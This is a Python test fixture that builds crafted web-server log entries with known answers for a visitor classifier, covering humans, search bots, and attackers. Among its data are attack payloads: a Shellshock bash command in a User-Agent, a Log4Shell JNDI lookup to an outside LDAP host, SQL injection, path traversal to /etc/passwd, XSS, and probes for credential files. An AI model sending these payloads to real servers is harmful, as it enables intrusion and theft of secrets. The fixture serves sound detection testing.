"""Crafted traffic with a known answer: who each visitor is, how many visits, which attacks."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

from lake_factory import BINGBOT, CHROME, FIREFOX, GOOGLEBOT, PARIS_WINTER, SAFARI_IPHONE, Hit

T0 = datetime(2026, 11, 27, 9, 0, tzinfo=PARIS_WINTER)
GPTBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2"


# What ingest writes for a request line that is not METHOD TARGET PROTOCOL.
NO_REQUEST = {"request": "-", "path": None, "query": None, "protocol": None, "is_page": False}


@dataclass(frozen=True)
class Expected:
    """What the build must say about one visitor (IP + User-Agent)."""

    ip: str
    user_agent: str | None
    visitor_class: str
    visits: int
    kinds: frozenset[str] = frozenset()
    verified_bot: bool | None = None


def at(minutes: float) -> datetime:
    return T0 + timedelta(minutes=minutes)


def page_with_assets(ip: str, ua: str, minutes: float, path: str = "/", **kw: object) -> list[Hit]:
    """A browser loading a page, then its stylesheet, script and logo."""
    return [
        Hit(at(minutes), ip=ip, user_agent=ua, path=path, **kw),  # type: ignore[arg-type]
        Hit(at(minutes) + timedelta(seconds=1), ip=ip, user_agent=ua, path="/style.css"),
        Hit(at(minutes) + timedelta(seconds=1), ip=ip, user_agent=ua, path="/app.js"),
        Hit(at(minutes) + timedelta(seconds=2), ip=ip, user_agent=ua, path="/img/logo.png"),
    ]


NAT_IP = "198.51.100.10"
ALICE = Expected(NAT_IP, CHROME, "human", 2)
CAROL = Expected(NAT_IP, SAFARI_IPHONE, "human", 1)  # a second browser behind the same NAT
BOB = Expected("198.51.100.11", FIREFOX, "human", 2)
DAVE = Expected("198.51.100.12", CHROME, "unknown", 1)  # one page, no asset: not a bot
EVE = Expected("198.51.100.13", FIREFOX, "human", 1)  # meets the WordPress login form
GOOGLE = Expected("66.249.64.5", GOOGLEBOT, "bot", 1, verified_bot=True)
BING = Expected("157.55.39.10", BINGBOT, "bot", 1, verified_bot=True)
GPT = Expected("20.171.207.1", GPTBOT, "bot", 1)
ROBOTS_READER = Expected("192.0.2.80", "Mozilla/5.0 (compatible; LinkChecker/2.0)", "bot", 1)
HOARDER = Expected("192.0.2.81", CHROME, "bot", 1)  # 25 pages, never an asset
ADMIN = Expected("192.0.2.50", FIREFOX, "admin", 1)
REMOTE_USER = Expected("192.0.2.51", CHROME, "admin", 1)
FAKE_GOOGLE = Expected(
    "203.0.113.77", GOOGLEBOT, "attacker", 1, frozenset({"fake_search_bot"}), verified_bot=False
)
SQLMAP = Expected(
    "203.0.113.10",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "attacker",
    1,
    frozenset({"scanner_user_agent", "sql_injection"}),
)
PROBER = Expected("203.0.113.20", CHROME, "attacker", 1, frozenset({"secret_file_probe"}))
BRUTE_A = Expected("203.0.113.30", FIREFOX, "attacker", 1, frozenset({"wp_login_bruteforce"}))
BRUTE_B = Expected("203.0.113.30", CHROME, "attacker", 1, frozenset({"wp_login_bruteforce"}))
XMLRPC = Expected("203.0.113.40", "Mozilla/5.0", "attacker", 1, frozenset({"xmlrpc_abuse"}))
JETPACK = Expected("192.0.78.1", "Jetpack by WordPress.com", "unknown", 1)
INJECTOR = Expected(
    "203.0.113.50",
    CHROME,
    "attacker",
    1,
    frozenset({"sql_injection", "path_traversal", "xss_attempt"}),
)
LATE = Expected("198.51.100.99", FIREFOX, "human", 2)  # either side of local midnight
PANEL_PROBER = Expected("203.0.113.60", CHROME, "attacker", 1, frozenset({"admin_probe"}))
TLS_SCANNER = Expected("203.0.113.70", None, "attacker", 1, frozenset({"protocol_probe"}))
# Exploits in headers: Shellshock as the User-Agent, Log4Shell in the referer.
HEADER_EXPLOITER = Expected(
    "203.0.113.80",
    '() { :; }; /bin/bash -c "id"',
    "attacker",
    1,
    frozenset({"shellshock", "log4shell"}),
)

EVERYONE = (
    ALICE,
    CAROL,
    BOB,
    DAVE,
    EVE,
    GOOGLE,
    BING,
    GPT,
    ROBOTS_READER,
    HOARDER,
    ADMIN,
    REMOTE_USER,
    FAKE_GOOGLE,
    SQLMAP,
    PROBER,
    BRUTE_A,
    BRUTE_B,
    XMLRPC,
    JETPACK,
    INJECTOR,
    PANEL_PROBER,
    TLS_SCANNER,
    HEADER_EXPLOITER,
    LATE,
)

# Ordinary browsing that looks a little like an attack to a careless pattern.
INNOCENT_REQUESTS = (
    ("/search", "s=select+a+dress"),
    ("/blog/union-square", None),
    ("/search", "q=rock+and+roll"),
    ("/search", "q=it%27s+a+%231+hit"),
    ("/products/o'reilly-book", None),
    ("/", "utm_source=newsletter&utm_medium=email&utm_campaign=black-friday"),
    ("/shop", "orderby=date&order=desc"),
    ("/search", "q=select+from+our+catalogue+or+order+online"),
    ("/docs/script-writing", None),
    ("/events", "date=2026-11-27&city=Paris"),
    ("/wp-content/uploads/2026/11/delete-from-list.pdf", None),
    ("/recipes/salt-%26-pepper", None),
    ("/search", "q=c%2B%2B+tutorial"),
    ("/blog/alert-on-air-quality", None),
    ("/.well-known/security.txt", None),
)


def crafted_hits() -> list[Hit]:
    hits: list[Hit] = []
    # Alice: a morning visit with a search engine referer, then another two hours later.
    hits += page_with_assets(NAT_IP, CHROME, 0, referer="https://www.google.com/")
    for minute, (path, query) in enumerate(INNOCENT_REQUESTS, start=1):
        hits.append(Hit(at(minute), ip=NAT_IP, user_agent=CHROME, path=path, query=query))
    hits.append(
        Hit(at(20), ip=NAT_IP, user_agent=CHROME, method="POST", path="/wp-admin/admin-ajax.php")
    )
    hits += page_with_assets(NAT_IP, CHROME, 140, path="/contact")
    # A preconnection her browser opened and never used: "-", 408. Not an attack.
    hits.append(Hit(at(141), ip=NAT_IP, user_agent=None, method=None, status=408, extra=NO_REQUEST))
    # Carol, on the same NAT address with her phone.
    hits += page_with_assets(NAT_IP, SAFARI_IPHONE, 5, path="/blog/")
    hits.append(Hit(at(7), ip=NAT_IP, user_agent=SAFARI_IPHONE, path="/blog/post-1"))
    # Bob: a gap of exactly 30 minutes keeps the visit; 31 minutes later starts another.
    hits += page_with_assets(BOB.ip, FIREFOX, 0)
    hits.append(Hit(at(30) + timedelta(seconds=2), ip=BOB.ip, user_agent=FIREFOX, path="/a"))
    hits.append(Hit(at(61) + timedelta(seconds=3), ip=BOB.ip, user_agent=FIREFOX, path="/b"))
    # Dave: one page and nothing else.
    hits.append(Hit(at(3), ip=DAVE.ip, user_agent=CHROME, path="/pricing"))
    # Eve: tries /wp-admin/, is sent to the login form, gives up.
    hits.append(Hit(at(10), ip=EVE.ip, user_agent=FIREFOX, path="/wp-admin/", status=302))
    hits += page_with_assets(EVE.ip, FIREFOX, 10.1, path="/wp-login.php")
    # Search engines and crawlers.
    for bot in (GOOGLE, BING, FAKE_GOOGLE):
        name = "Googlebot" if bot.user_agent == GOOGLEBOT else "Bingbot"
        hits.append(
            Hit(
                at(1),
                ip=bot.ip,
                user_agent=bot.user_agent,
                path="/robots.txt",
                is_bot=True,
                bot_name=name,
            )
        )
        for i in range(3):
            hits.append(
                Hit(
                    at(2 + i),
                    ip=bot.ip,
                    user_agent=bot.user_agent,
                    path=f"/p/{i}",
                    is_bot=True,
                    bot_name=name,
                )
            )
    hits.append(Hit(at(4), ip=GPT.ip, user_agent=GPTBOT, path="/", is_bot=True, bot_name="GPTBot"))
    hits.append(
        Hit(at(5), ip=ROBOTS_READER.ip, user_agent=ROBOTS_READER.user_agent, path="/robots.txt")
    )
    hits.append(Hit(at(5.5), ip=ROBOTS_READER.ip, user_agent=ROBOTS_READER.user_agent, path="/"))
    for i in range(25):
        hits.append(Hit(at(i / 2), ip=HOARDER.ip, user_agent=CHROME, path=f"/catalogue/{i}"))
    # The site's administrator: two failed logins, one that works, then the dashboard.
    for i in range(2):
        hits.append(
            Hit(
                at(50 + i),
                ip=ADMIN.ip,
                user_agent=FIREFOX,
                method="POST",
                path="/wp-login.php",
                status=200,
            )
        )
    hits.append(
        Hit(
            at(52), ip=ADMIN.ip, user_agent=FIREFOX, method="POST", path="/wp-login.php", status=302
        )
    )
    hits += page_with_assets(ADMIN.ip, FIREFOX, 52.1, path="/wp-admin/")
    hits.append(Hit(at(53), ip=ADMIN.ip, user_agent=FIREFOX, path="/wp-admin/edit.php"))
    hits.append(
        Hit(
            at(8), ip=REMOTE_USER.ip, user_agent=CHROME, path="/private/report", remote_user="owner"
        )
    )
    # Attacks.
    # A port scanner speaking TLS, then RDP, to the HTTP port.
    for i, junk in enumerate(
        ("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03", "\\x03\\x00\\x00/*\\xe0")
    ):
        request = {**NO_REQUEST, "request": junk}
        hits.append(
            Hit(
                at(33 + i),
                ip=TLS_SCANNER.ip,
                user_agent=None,
                method=None,
                status=400,
                extra=request,
            )
        )
    hits.append(
        Hit(
            at(30),
            ip=SQLMAP.ip,
            user_agent=SQLMAP.user_agent,
            path="/item.php",
            query="id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
            status=500,
        )
    )
    hits.append(
        Hit(at(30.1), ip=SQLMAP.ip, user_agent=SQLMAP.user_agent, path="/item.php", query="id=1")
    )
    for i, path in enumerate(
        (
            "/.env",
            "/.git/config",
            "/wp-config.php.bak",
            "/backup.zip",
            "/phpinfo.php",
            "/.aws/credentials",
            "/db.sql",
        )
    ):
        hits.append(Hit(at(40 + i / 10), ip=PROBER.ip, user_agent=CHROME, path=path, status=404))
    for i in range(6):
        ua = FIREFOX if i % 2 else CHROME
        hits.append(
            Hit(
                at(70 + i / 2),
                ip=BRUTE_A.ip,
                user_agent=ua,
                method="POST",
                path="/wp-login.php",
                status=200,
            )
        )
    hits.append(
        Hit(at(80), ip=XMLRPC.ip, user_agent=XMLRPC.user_agent, method="POST", path="/xmlrpc.php")
    )
    hits.append(
        Hit(
            at(80),
            ip=JETPACK.ip,
            user_agent=JETPACK.user_agent,
            method="POST",
            path="/xmlrpc.php",
            as_org="Automattic, Inc",
            asn=2635,
        )
    )
    for i, (path, query) in enumerate(
        (
            ("/index.php", "id=1%2527%2520OR%25201=1"),
            ("/index.php", "page=..%2F..%2F..%2Fetc%2Fpasswd"),
            ("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
        )
    ):
        hits.append(Hit(at(90 + i), ip=INJECTOR.ip, user_agent=CHROME, path=path, query=query))
    hits.append(
        Hit(
            at(36),
            ip=HEADER_EXPLOITER.ip,
            user_agent=HEADER_EXPLOITER.user_agent,
            referer="${jndi:ldap://198.51.100.66:1389/a}",
        )
    )
    for i, path in enumerate(("/phpmyadmin/", "/administrator/", "/pma/index.php")):
        hits.append(Hit(at(95 + i), ip=PANEL_PROBER.ip, user_agent=CHROME, path=path, status=404))
    return hits


def late_evening_hits() -> list[Hit]:
    """Two hits either side of local midnight (Paris, UTC+1): two local dates, one UTC date."""
    evening = datetime(2026, 11, 27, 23, 30, tzinfo=PARIS_WINTER)
    minutes = (evening - T0).total_seconds() / 60
    return [
        *page_with_assets(LATE.ip, FIREFOX, minutes),
        Hit(evening + timedelta(hours=1), ip=LATE.ip, user_agent=FIREFOX, path="/late"),
    ]
